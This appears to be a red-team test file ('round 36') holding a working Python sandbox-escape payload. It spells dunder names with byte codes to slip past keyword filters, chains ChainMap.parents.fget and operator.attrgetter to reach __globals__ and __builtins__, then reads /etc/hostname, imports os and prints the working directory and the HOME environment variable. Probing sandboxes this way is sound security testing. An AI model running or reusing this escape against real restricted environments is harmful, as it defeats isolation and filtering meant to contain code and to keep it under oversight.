# family: red team, round 36 (ChainMap.parents.fget on a class is type(*maps[1:]): type(x) of anything -> attrgetter class)
import collections
import operator


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


class Box:
    maps = [None, operator.attrgetter("real")]


def main():
    build = collections.ChainMap.parents.fget
    getter_class = build(Box)  # Box.__class__(*Box.maps[1:]) is type(attrgetter("real")): operator.attrgetter
    print(getter_class)

    def grab(target, name):
        return getter_class(name)(target)

    namespace = grab(main, dunder("globals"))
    print(namespace["collections"])
    builtins = namespace[dunder("builtins")]
    print(grab(builtins, "open")("/etc/hostname").read())
    system = grab(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
